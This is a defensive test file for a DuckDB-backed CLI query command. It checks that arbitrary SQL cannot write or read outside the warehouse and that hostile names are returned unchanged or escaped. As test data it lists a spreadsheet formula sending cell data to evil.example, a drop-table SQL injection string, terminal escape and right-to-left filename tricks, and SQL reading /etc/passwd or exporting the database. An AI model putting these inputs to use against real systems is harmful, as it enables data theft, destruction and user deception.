/** Neither the SQL of a query nor the data in its result can do harm. */
import { readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { DqsyncError } from '../../../functions/errors.ts';
import { aWorld } from '../../cli/world.ts';
import { anObservation } from '../../support/builders.ts';
import { duckdb } from '../../support/referee.ts';
import { tempFolder, tempWarehouse } from '../../support/temp-warehouse.ts';
import { writeObservations } from '../../support/warehouse-data.ts';
import { opened } from '../../support/warehouse-sql.ts';
import { hostileText } from './hostile-texts.ts';

/** Names of a hostile source. */
const hostileNames = [
  'a,b',
  'quoted "name"',
  'two\r\nlines',
  'two\nlines',
  '=HYPERLINK("http://evil.example/?"&A1)',
  "'; DROP TABLE quality_instances; --",
  '\u001b[2Jcleared\u001b]0;title\u0007',
  '\u202egnp.exe',
  '\u2028',
  '\u{1F600}',
];

describe('query', () => {
  it('runs any text as SQL or refuses it, and writes nothing', async () => {
    const store = await tempWarehouse();
    await writeObservations(store, [anObservation()]);
    const outside = await tempFolder();
    const before = await readdir(store.folder, { recursive: true });
    const sql = await opened(store);
    const target = join(outside, 'x.csv');
    const piece = fc.constantFrom(
      'SELECT 1',
      'FROM quality_instances',
      `COPY (SELECT 1) TO '${target}'`,
      `COPY (SELECT 1) TO '${join(store.folder, 'quality_instance_observations', 'x.csv')}'`,
      `ATTACH '${target}'`,
      'SET enable_external_access = true',
      'PRAGMA database_list',
      `FROM read_text('/etc/passwd')`,
      `FROM glob('/etc/*')`,
      `CREATE TABLE t AS SELECT 1`,
      `EXPORT DATABASE '${outside}'`,
      `INSTALL httpfs`,
      ';',
      '--',
      '/*',
      "'",
      '"',
      ' ',
    );
    const text = fc.oneof(
      hostileText,
      fc.array(fc.oneof(piece, hostileText), { minLength: 1, maxLength: 5 }).map((parts) => parts.join(' ')),
      fc.array(piece, { minLength: 1, maxLength: 4 }).map((parts) => parts.join(';')),
    );
    await fc.assert(
      fc.asyncProperty(text, async (one) => {
        const outcome = await sql.run(one).catch((thrown: unknown) => thrown);
        if (outcome instanceof Error) {
          expect(outcome).toBeInstanceOf(DqsyncError);
          expect((outcome as DqsyncError).kind).toBe('config');
        } else {
          expect(
            JSON.stringify(outcome, (_key, value) => (typeof value === 'bigint' ? String(value) : value)),
          ).not.toContain('root:x:0');
        }
      }),
      { numRuns: 400 },
    );
    expect(await readdir(outside)).toEqual([]);
    expect(await readdir(store.folder, { recursive: true })).toEqual(before);
    expect((await sql.run('SELECT count(*) FROM quality_instances')).rows).toEqual([[1n]]);
  });

  it('returns hostile names unchanged in CSV and JSON, one row each, and escaped in a table', async () => {
    const world = await aWorld();
    const startTimeMs = world.simulator.clock.now() - 3_600_000;
    for (const [index, name] of hostileNames.entries()) {
      world.simulator.life.addExecution({ name, startTimeMs: startTimeMs + index });
    }
    expect((await world.cli(['sync'])).exitCode).toBe(0);
    const select = 'SELECT name, id FROM quality_instances ORDER BY start_time';
    const csv = await world.cli(['query', '--csv', select]);
    const file = join(world.folder, 'out.csv');
    await writeFile(file, csv.stdout);
    const read =
      await duckdb(`FROM read_csv('${file}', header = true, all_varchar = true, new_line = '\\n', auto_detect = false,
      columns = {'name': 'VARCHAR', 'id': 'VARCHAR'}, delim = ',', quote = '"', escape = '"', allow_quoted_nulls = false)`);
    expect(read.map((row) => row['name'])).toEqual(hostileNames);
    const json = JSON.parse((await world.cli(['query', '--json', select])).stdout);
    expect(json.map((row: { name: string }) => row.name)).toEqual(hostileNames);
    for (const command of [['query', select], ['list'], ['status']]) {
      const { stdout, stderr, exitCode } = await world.cli(command);
      expect(exitCode).toBe(0);
      expect(stdout + stderr).not.toMatch(/[^\P{Cc}\n]|[\u202a-\u202e\u2066-\u2069]/u);
    }
  });
});
